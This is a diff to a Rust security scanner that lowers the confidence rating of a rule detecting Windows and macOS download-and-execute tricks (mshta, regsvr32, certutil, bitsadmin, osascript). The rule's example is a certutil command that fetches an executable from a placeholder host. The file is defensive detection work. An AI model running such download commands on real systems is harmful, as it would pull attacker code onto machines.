@@ -85,7 +85,7 @@ pub(crate) const PATTERNS: &[Pattern] = &[
         &["mshta", "regsvr32", "certutil", "bitsadmin", "osascript"],
         r"\bmshta(?:\.exe)?\s+(?:https?:|javascript:|vbscript:)|\bregsvr32\b[^\n]{0,80}/i:https?:|\bcertutil(?:\.exe)?\b[^\n]{0,60}-urlcache|\bbitsadmin\b[^\n]{0,60}/transfer|\bosascript\b[^\n]{0,200}do\s+shell\s+script[^\n]{0,200}(?:curl|base64)",
     )
-    .weight(Severity::Critical, Confidence::High)
+    .weight(Severity::Critical, Confidence::Medium)
     .weigh(weigh::command)
     .example("a.bat", "certutil -urlcache -f http://x.example/a.exe a.exe"),
     Pattern::new(
